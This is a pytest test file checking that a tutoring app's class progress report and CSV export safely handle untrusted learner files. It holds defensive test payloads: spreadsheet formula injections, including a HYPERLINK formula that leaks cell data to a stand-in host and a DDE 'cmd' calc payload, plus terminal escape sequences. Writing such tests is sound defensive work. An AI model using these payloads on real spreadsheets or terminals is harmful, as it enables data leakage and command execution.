"""The class report (``python -m tutor.progress``), issue 13: learners' files are untrusted
input. One bad file never stops the report (it is listed as skipped, with the reason),
nothing but regular files is read, names cannot forge lines or drive the terminal, and no
CSV cell becomes a spreadsheet formula."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tutor.lessons import progress as P
from tutor.lessons.progress import FILE
from tutor.progress import cell, main, shown

ROOT = Path(__file__).resolve().parents[1]
ENTRY = {"done": True, "attempts": 2, "hints": 1}


def learner_file(folder: Path, learner: str, lessons: dict | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    doc = {"format": "tutor-progress", "version": 1, "learner": learner,
           "lessons": lessons if lessons is not None else {
               "cartography/4": {"capture-one": ENTRY}}}
    path = folder / FILE
    path.write_text(json.dumps(doc), encoding="utf-8")
    return path


def run(args: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(args)
    return code, out.getvalue(), err.getvalue()


ODD_KEYS = ["cartography/²",  # the case: "²".isdigit() but int("²") fails
            "cartography/" + "9" * 5000,  # the case: more digits than int() takes
            "cartography/٣", "cartography/-1", "cartography/04", "cartography/ 4",
            "cartography", "cartography/", "/", "", "chess/1", "__init__/1", "../../x/1"]


@pytest.mark.parametrize("key", ODD_KEYS, ids=range(len(ODD_KEYS)))
def test_an_odd_lesson_key_does_not_stop_the_report(tmp_path: Path, key: str):
    """A lesson key the course does not have is reported as it is, with no title ("?");
    it is never mistaken for a real lesson (an Arabic-Indic ٣ is not lesson 3)."""
    learner_file(tmp_path / "ann", "ann")
    learner_file(tmp_path / "bo", "bo", {key: {"my-item": ENTRY}})
    code, out, err = run([str(tmp_path)])
    assert code == 0 and err == ""
    assert "ann (" in out and "cartography 4 · Capture: 1 of " in out
    game, _, number = key.partition("/")
    assert f"  {game} {number} · ?: 1 of 1 done, 2 attempts, 1 hint" in out


GOOD = json.dumps({"format": "tutor-progress", "version": 1, "learner": "x",
                   "lessons": {"cartography/4": {"capture-one": ENTRY}}})

BAD_FILES = {
    "deeply-nested": (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),  # the case
    "5000-digit-count": (GOOD.replace('"attempts": 2', '"attempts": ' + "9" * 5000).encode(),
                         "not JSON"),
    "count-over-the-cap": (GOOD.replace('"attempts": 2', f'"attempts": {10**12}').encode(),
                           "is damaged"),
    "utf-16-with-bom": (GOOD.encode("utf-16"), "not UTF-8 text (a UTF-16 file)"),
    "latin-1": (GOOD.replace('"x"', '"Zoë"').encode("latin-1"), "not UTF-8"),
    "not-json": (b"{not json", "not JSON"),
    "a-list": (b"[]", "not a tutor progress file"),
    "learner-not-text": (GOOD.replace('"x"', "[1]").encode(), "'learner' must be text"),
}


@pytest.mark.parametrize("content, reason", BAD_FILES.values(), ids=BAD_FILES)
def test_a_bad_file_is_skipped_with_its_reason_and_the_others_reported(
        tmp_path: Path, content: bytes, reason: str):
    learner_file(tmp_path / "ann", "ann")
    bad = tmp_path / "bo" / FILE
    bad.parent.mkdir()
    bad.write_bytes(content)
    code, out, err = run([str(tmp_path)])
    assert code == 0 and "ann (" in out and "bo" not in out
    assert err.startswith(f"skipped: {bad}: ") and reason in err


@pytest.mark.parametrize("kind", ["fifo", "link-to-dev-zero", "too-large", "folder-given"])
def test_only_regular_files_of_a_sane_size_are_read(tmp_path: Path, kind: str,
                                                    monkeypatch: pytest.MonkeyPatch):
    """The cases: a FIFO named tutor-progress.json hung the report, a link to /dev/zero
    filled the memory. Neither is read; each is skipped with a note."""
    learner_file(tmp_path / "ann", "ann")
    odd = tmp_path / "bo" / FILE
    odd.parent.mkdir()
    if kind == "fifo":
        os.mkfifo(odd)
    elif kind == "link-to-dev-zero":
        odd.symlink_to("/dev/zero")
    elif kind == "too-large":
        monkeypatch.setattr(P, "MAX_BYTES", 1000)
        learner_file(odd.parent, "b" * 2000)
    else:
        odd.mkdir()
    args = [str(tmp_path), str(odd)] if kind == "folder-given" else [str(tmp_path)]
    code, out, err = run(args)
    assert code == 0 and "ann (" in out
    expected = {"fifo": "not a regular file", "link-to-dev-zero": "not a regular file",
                "too-large": "larger than 1000 bytes", "folder-given": ""}[kind]
    assert expected in err


def test_the_command_finishes_with_a_fifo_and_dev_zero_in_the_class_folder(tmp_path: Path):
    """The real command, in its own process (a hang or a memory blow-up fails the timeout)."""
    learner_file(tmp_path / "ann", "ann")
    os.makedirs(tmp_path / "fifo")
    os.mkfifo(tmp_path / "fifo" / FILE)
    os.makedirs(tmp_path / "zero")
    (tmp_path / "zero" / FILE).symlink_to("/dev/zero")
    done = subprocess.run([sys.executable, "-m", "tutor.progress", str(tmp_path), "--csv",
                           str(tmp_path / "class.csv")], cwd=ROOT, capture_output=True,
                          text=True, timeout=120)
    assert done.returncode == 0 and "ann (" in done.stdout
    assert done.stderr.count("not a regular file") == 2
    assert "wrote " in done.stderr


FORGERS = ["ann\n  cartography 4 · Capture: 9 of 9 done, 0 attempts, 0 hints",  # the case
           "\x1b[2J\x1b]0;owned\x07bo",  # clears the screen, retitles the terminal
           "\u202eevil", "cr\rover", "nul\x00", "del\x7f", "line\u2028sep", "\ud800"]


@pytest.mark.parametrize("learner", FORGERS, ids=range(len(FORGERS)))
def test_a_name_cannot_forge_report_lines_or_drive_the_terminal(tmp_path: Path, learner: str):
    """Control characters in names and paths are shown escaped: one line per learner and
    lesson, nothing a terminal would act on."""
    learner_file(tmp_path / "a", learner)
    learner_file(tmp_path / "b\nskipped: forged", "zoe")
    (tmp_path / "c\x1b[31m").mkdir()
    (tmp_path / "c\x1b[31m" / FILE).write_text("[]")
    code, out, err = run([str(tmp_path)])
    assert code == 0
    lines = out.splitlines()
    assert len(lines) == 4 and lines[0].startswith(shown(learner) + " (")
    assert lines[2].startswith("zoe (") and lines[2].endswith("b\\nskipped: forged/" + FILE + ")")
    assert len(err.splitlines()) == 1 and "c\\x1b[31m" in err
    for text in (out, err):
        assert all(c.isprintable() or c in " \n" for c in text), repr(text)


def test_shown_escapes_what_does_not_print_and_keeps_the_rest():
    assert shown("林小美 Zoë O'Neil") == "林小美 Zoë O'Neil"
    assert shown("a\nb\tc\x1b\u202e\ud800") == "a\\nb\\tc\\x1b\\u202e\\ud800"


INJECTIONS = ['=HYPERLINK("http://x.example/?"&A1,"see")',  # the case
              "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "=1\n=2"]


def test_no_csv_cell_becomes_a_formula(tmp_path: Path):
    """Learner and item names (and unknown lesson keys) starting with = + - @ (or a tab or a
    carriage return) get a leading single quote, as OWASP advises; numbers stay numbers."""
    for i, text in enumerate(INJECTIONS):
        learner_file(tmp_path / f"l{i}", text, {
            "cartography/4": {"capture-one": ENTRY},
            f"{text}/1": {text: ENTRY},
            "cartography/99": {text: ENTRY}})
    out = tmp_path / "class.csv"
    code, _, _ = run([str(tmp_path), "--csv", str(out)])
    assert code == 0
    with open(out, newline="", encoding="utf-8") as f:
        table = list(csv.reader(f))
    assert table[0][:6] == ["learner", "file", "game", "lesson", "title", "item"]
    for row in table[1:]:
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row), row
        assert all(c.isdigit() for c in row[6:10]) and row[10] in ("core", "deeper")
    learners = {row[0] for row in table[1:]}
    assert "'" + INJECTIONS[0] in learners and "'=1\\n=2" in learners
    items = {row[5] for row in table[1:]}
    assert "'@SUM(A1:A9)" in items and "'-2+3" in items
    assert "'=HYPERLINK(\"http:" in {row[2] for row in table[1:]}


def test_the_report_and_the_csv_give_the_stars(tmp_path: Path):
    """Issue 14: the teacher's export gains the stars: each item's best (a file from
    before stars gets them from its counts), the lesson's sum and the answers seen (1
    star: not done). The stars column comes last."""
    learner_file(tmp_path / "ann", "ann", {"cartography/4": {
        "capture-one": {"done": True, "attempts": 1, "hints": 0, "stars": 3},
        "capture-group": {"done": False, "attempts": 2, "hints": 3, "stars": 1},
        "q-corner": {"done": True, "attempts": 2, "hints": 0}}})
    out = tmp_path / "class.csv"
    code, printed, _ = run([str(tmp_path), "--csv", str(out)])
    assert code == 0
    assert "2 of " in printed and ", 6 of " in printed and " stars, 1 answer seen" in printed
    with open(out, newline="", encoding="utf-8") as f:
        table = list(csv.reader(f))
    assert table[0][9:] == ["stars", "part"] and table[0][:9] == [
        "learner", "file", "game", "lesson", "title", "item", "done", "attempts", "hints"]
    got = {row[5]: (row[6], row[9]) for row in table[1:]}
    assert got["capture-one"] == ("1", "3") and got["capture-group"] == ("0", "1")
    assert got["q-corner"] == ("1", "2") and got["q-swing"] == ("0", "0")


def test_the_report_counts_a_lessons_deeper_part_apart(tmp_path: Path, monkeypatch):
    """Issue 22: the items after a lesson's Deeper step are its optional part: the report
    sums the core and says the deeper part apart; the CSV names each item's part."""
    import dataclasses

    from tutor.games.cartography import lessons as module
    from tutor.lessons.model import Deeper, Quiz

    lesson = module.LESSONS[3]
    items = lesson.quiz_items()
    steps = tuple(s for s in lesson.steps if not isinstance(s, (Quiz, Deeper)))
    split = dataclasses.replace(lesson, steps=(*steps, Quiz(items[:2]), Deeper(),
                                               Quiz(items[2:])))
    monkeypatch.setattr(module, "LESSONS", (*module.LESSONS[:3], split, *module.LESSONS[4:]))
    deeper = items[2].id
    learner_file(tmp_path / "ann", "ann", {"cartography/4": {
        "capture-one": {"done": True, "attempts": 1, "hints": 0, "stars": 3},
        deeper: {"done": True, "attempts": 1, "hints": 0, "stars": 3}}})
    out = tmp_path / "class.csv"
    code, printed, _ = run([str(tmp_path), "--csv", str(out)])
    core = len(split.graded("core"))
    further = len(split.graded("deeper"))
    assert code == 0 and f"1 of {core} done" in printed
    assert f"; going further: 1 of {further} done, 3 of {3 * further} stars" in printed
    with open(out, newline="", encoding="utf-8") as f:
        parts = {row[5]: row[-1] for row in list(csv.reader(f))[1:]}
    assert parts[deeper] == "deeper" and parts["capture-one"] == "core"
    assert list(parts.values()).count("deeper") == further


def test_cell_leaves_ordinary_text_alone():
    assert cell("capture-one") == "capture-one" and cell("林小美") == "林小美"
    assert cell("-") == "'-" and cell("a=b") == "a=b"


# -- the family: any JSON a learner could write --------------------------------------------

JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
                    lambda inner: st.lists(inner, max_size=3)
                    | st.dictionaries(st.text(), inner, max_size=3), max_leaves=8)
ENTRIES = st.fixed_dictionaries({"done": st.booleans(),
                                 "attempts": st.integers(0, 10**9),
                                 "hints": st.integers(0, 10**9)},
                                optional={"stars": st.integers(-1, 4) | JSON}) | JSON
KEYS = st.text() | st.sampled_from(["cartography/4", "tokaido/1", "cartography/²"]) | \
    st.builds(lambda g, n: f"{g}/{n}", st.sampled_from(["cartography", "kanagawa"]), st.text())
DOCS = st.fixed_dictionaries(
    {"format": st.just("tutor-progress"), "version": st.just(1),
     "learner": st.text() | JSON,
     "lessons": st.dictionaries(KEYS, st.dictionaries(st.text(), ENTRIES, max_size=3)
                                | JSON, max_size=3)}) | JSON


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(docs=st.lists(DOCS, min_size=1, max_size=3))
def test_any_json_a_learner_writes_never_stops_the_report(docs: list):
    """Whatever the files hold, the report runs to the end, the good file is reported, and
    the output is plain lines."""
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        learner_file(root / "good", "ann")
        for i, doc in enumerate(docs):
            (root / f"l{i}").mkdir()
            text = json.dumps(doc, ensure_ascii=False)
            (root / f"l{i}" / FILE).write_bytes(text.encode("utf-8", "backslashreplace"))
        code, out, err = run([folder, "--csv", str(root / "class.csv")])
        assert code == 0 and "ann (" in out
        assert err.count("skipped: ") <= len(docs)
        for text in (out, err):
            assert all(c.isprintable() or c in " \n" for c in text)
